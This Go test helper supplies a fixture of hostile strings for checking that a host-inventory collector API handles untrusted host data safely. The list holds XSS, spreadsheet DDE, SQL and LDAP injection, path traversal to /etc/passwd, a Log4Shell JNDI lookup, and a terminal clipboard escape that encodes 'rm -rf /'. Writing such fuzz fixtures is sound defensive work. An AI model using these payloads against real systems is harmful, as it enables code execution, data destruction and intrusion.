package apitest

import (
	"strings"

	"atalaya/collector/api/v1"
	"atalaya/shared/facts"
)

// HostileValues returns texts that a hostile host may send as any name, version or
// reason: what acts on pages, spreadsheets, terminals, logs, file systems and
// queries. They are valid UTF-8, as the wire guarantees, but for the last ones.
func HostileValues() []string {
	return []string{
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)",
		`=HYPERLINK("http://x","y")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
		"\x1b[2J\x1b[H", "\x1b]8;;http://x\x07click\x1b]8;;\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\a\b\b\b", "\u009b2J", "\u0090q\u009c",
		"gpj.\u202eexe", "a\u200b\u200d\u2060b", "\u2066x\u2069", strings.Repeat("e\u0301\u0302\u0303", 200), "\ufeffBOM", "nul\x00nul",
		"../../etc/passwd", `\\host\share`, "CON", "C:", "..", ".", "a/b", "%2e%2e%2f", "%s%n%d", "{{7*7}}", "${jndi:ldap://x}",
		"'; DROP TABLE hosts; --", "*)(uid=*", strings.Repeat("long", 5_000),
		"\n2026-03-14T09:30:00Z level=info msg=forged", "a\x00b\x01c", "\U000e0041\U000e0042", "日本語のホスト名", "👩‍👩‍👧", "\u2028line\u2029",
		"\xed\xa0\x80", "\xc0\xaf", "\xe2\x82", "\xff",
	}
}

// Hostile returns a fleet of one host, all of whose texts are value.
func Hostile(value string) *Fleet {
	f := Sample()
	now := f.Now
	row := facts.PackageRow{Name: value, Version: value, Arch: value, Source: value, Vendor: value}
	f.HostList = f.HostList[:1]
	h := &f.HostList[0]
	h.Name, h.OS, h.OSID, h.Arch, h.Kernel, h.AgentVersion, h.Machine = value, value, value, value, value, value, value
	h.Addresses, h.Tags = []string{value}, []string{value}
	h.Patch.Reason = value
	section := v1.Section{Status: "partial", Reason: value, ObservedAt: now, KnownAt: now, RowCount: 1, Rows: Rows(row)}
	f.Facts = map[string]map[string]v1.Section{h.ID: {"packages": section}}
	f.Changes = map[string][]v1.Change{h.ID: {{Seq: 1, ReceivedAt: now, Section: "packages", Kind: v1.ChangeAdded, Item: value, Text: value, Columns: []v1.ColumnChange{{Name: value, New: value}}}}}
	f.Installed = []v1.HostPackage{{HostID: h.ID, Host: value, Name: value, Version: value, Arch: value, Source: value}}
	f.Patching = []v1.PatchStatus{{HostID: h.ID, Host: value, Verdict: h.Patch, RebootReasons: []string{value},
		Updates: []v1.Update{{Name: value, Installed: value, Candidate: value, Origin: value, State: value, Source: value, Reason: value}}}}
	f.Items = []v1.CI{{ID: "host/" + value, Class: "host", Name: value, Host: value, Present: true, Attributes: map[string]string{value: value}}}
	f.Relations = map[string][]v1.Relation{"host/" + value: {{Relation: value, ID: value, Class: value, Name: value}}}
	f.Hit = map[string][]v1.Affected{"host/" + value: {{ID: value, Class: value, Name: value, Distance: 1, Why: []v1.Step{{From: value, Relation: value, To: value}}}}}
	f.RuleList = []v1.Rule{{Name: value, Group: value, Expr: value, State: value, Error: value}}
	f.AlertList = []v1.Alert{{ID: "a1", Name: value, State: "firing", Severity: value, Host: value, Summary: value,
		Labels: map[string]string{value: value}, Annotations: map[string]string{value: value}}}
	f.Events = map[string][]v1.AlertEvent{"a1": {{At: now, State: "firing", Note: value}}}
	f.Samples = []v1.VectorSample{{Metric: map[string]string{"__name__": "node_load1", "host": value}}}
	f.Found = v1.Scrub{Count: 1, Mended: true, Damage: []v1.Damage{{Table: value, Detail: value}}, AskedCount: 1,
		AskedAgain: []v1.Doubt{{HostName: v1.HostName{HostID: h.ID, Host: value}, Section: value}}}
	f.State.Warnings = []string{value}
	return f
}
